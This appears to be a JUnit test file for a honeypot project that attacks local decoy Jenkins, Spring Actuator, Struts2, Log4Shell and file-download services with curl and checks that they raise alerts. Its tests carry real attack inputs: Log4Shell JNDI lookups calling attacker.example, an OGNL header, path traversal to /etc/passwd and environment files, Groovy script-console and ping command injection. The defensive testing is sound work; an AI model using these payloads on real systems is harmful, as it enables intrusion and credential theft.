package dev.moat.decoy;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Clock;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The execution decoys behind the real Netty runtime on 127.0.0.1, attacked with curl. After every attack the JVM's
 * process tree holds nothing but finished curl processes (the test's own): the decoys spawn nothing.
 */
class ExecutionDecoysCurlTest {

  private final RecordingPublisher alerts = new RecordingPublisher();
  private DecoyServer server;
  private Map<String, Integer> ports;

  @BeforeEach
  void start() throws Exception {
    DecoyCatalog catalog = DecoyCatalog.builtIn();
    List<ServedDecoy> decoys = List.of("jenkins", "spring-actuator", "file-download", "ping-diagnostics", "log4shell", "struts2").stream()
        .map(type -> new ServedDecoy(new DecoyIdentity(type, type, null, null), catalog.find(type).orElseThrow(), 0)).toList();
    server = DecoyServer.start(decoys, "127.0.0.1", DecoyLimits.defaults(), alerts, Clock.systemUTC());
    ports = server.boundPorts();
  }

  @AfterEach
  void stop() {
    server.close();
  }

  private String url(String decoy, String target) {
    return "http://127.0.0.1:" + ports.get(decoy) + target;
  }

  private String curl(String... args) throws Exception {
    String out = GenericDecoyTest.curl(args);
    assertThat(ProcessHandle.current().descendants().filter(ProcessHandle::isAlive).count()).as("live child processes").isZero();
    return out;
  }

  @Test
  void jenkinsScriptConsoleAnswersCannedOutputAndAlerts() throws Exception {
    assertThat(curl("-s", "-i", url("jenkins", "/"))).contains("X-Jenkins: 2.426.3").contains("<title>Dashboard [Jenkins]</title>");
    assertThat(curl("-s", "--data-urlencode", "script=println \"id\".execute().text", url("jenkins", "/scriptText")))
        .isEqualTo("uid=111(jenkins) gid=118(jenkins) groups=118(jenkins)\n");
    assertThat(alerts.await(a -> a.action().equals("http.script_console")).severity()).isEqualTo(AlertSeverity.CRITICAL);
  }

  @Test
  void actuatorHeapdumpAndEnvAlert() throws Exception {
    assertThat(curl("-s", url("spring-actuator", "/actuator/heapdump"))).startsWith("JAVA PROFILE 1.0.2");
    assertThat(curl("-s", url("spring-actuator", "/actuator/env"))).contains("spring.datasource.password");
    alerts.await(a -> a.action().equals("http.actuator_heapdump"));
    alerts.await(a -> a.action().equals("http.actuator_env"));
  }

  @Test
  void everyHttpDecoyAlertsOnALog4ShellLookupNotOnlyTheLog4ShellOne() throws Exception {
    for (String decoy : List.of("jenkins", "spring-actuator", "file-download", "struts2", "log4shell")) {
      curl("-s", "-o", "/dev/null", "-H", "X-Api-Version: ${jndi:ldap://" + decoy + ".attacker.example:1389/a}", url(decoy, "/"));
      Alert a = alerts.await(x -> x.action().equals("http.log4shell") && x.decoyName().equals(decoy));
      assertThat(a.fields()).containsEntry("callback_host", decoy + ".attacker.example:1389");
    }
    // alerts are raised before the answer is written, so every one is in by now: the log4shell decoy raised one, not two
    assertThat(alerts.alerts()).filteredOn(x -> x.action().equals("http.log4shell") && x.decoyName().equals("log4shell")).hasSize(1);
  }

  @Test
  void everyAcceptedConnectionIsCountedForItsDecoyHttpIncluded() throws Exception {
    java.util.concurrent.ConcurrentHashMap<String, Integer> counted = new java.util.concurrent.ConcurrentHashMap<>();
    ServedDecoy download = new ServedDecoy(new DecoyIdentity("docs", "file-download", null, null), DecoyCatalog.builtIn().find("file-download").orElseThrow(), 0);
    try (DecoyServer counting = DecoyServer.start(List.of(download), "127.0.0.1", DecoyLimits.defaults(), alerts, Clock.systemUTC(),
        name -> counted.merge(name, 1, Integer::sum))) {
      String url = "http://127.0.0.1:" + counting.boundPorts().get("docs") + "/";
      for (int i = 0; i < 3; i++) {
        curl("-s", "-o", "/dev/null", url);
      }
    }
    assertThat(counted).containsExactly(java.util.Map.entry("docs", 3));
  }

  @Test
  void traversalThroughCurlServesTheFakePasswd() throws Exception {
    assertThat(curl("-s", "--path-as-is", url("file-download", "/static/../../../../etc/passwd"))).startsWith("root:x:0:0:");
    assertThat(curl("-s", url("file-download", "/download?file=..%252f..%252f..%252f..%252fproc%252fself%252fenviron")))
        .contains("DB_PASSWORD=");
    assertThat(alerts.await(a -> a.action().equals("http.path_traversal")).fields()).containsEntry("path", "/etc/passwd");
  }

  @Test
  void injectedPingCommandsAndLog4ShellAndOgnlAlert() throws Exception {
    assertThat(curl("-s", "--data-urlencode", "host=8.8.8.8;id", url("ping-diagnostics", "/diagnostics")))
        .contains("PING 8.8.8.8").contains("uid=33(www-data)");
    curl("-s", "-H", "User-Agent: ${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example:1389/a}", url("log4shell", "/solr/"));
    curl("-s", "-H", "Content-Type: %{(#_='multipart/form-data').(#cmd='id')}", url("struts2", "/upload.action"));
    alerts.await(a -> a.action().equals("http.command_injection"));
    assertThat(alerts.await(a -> a.action().equals("http.log4shell")).fields()).containsEntry("callback_host", "attacker.example:1389");
    alerts.await(a -> a.action().equals("http.struts_ognl"));
  }
}
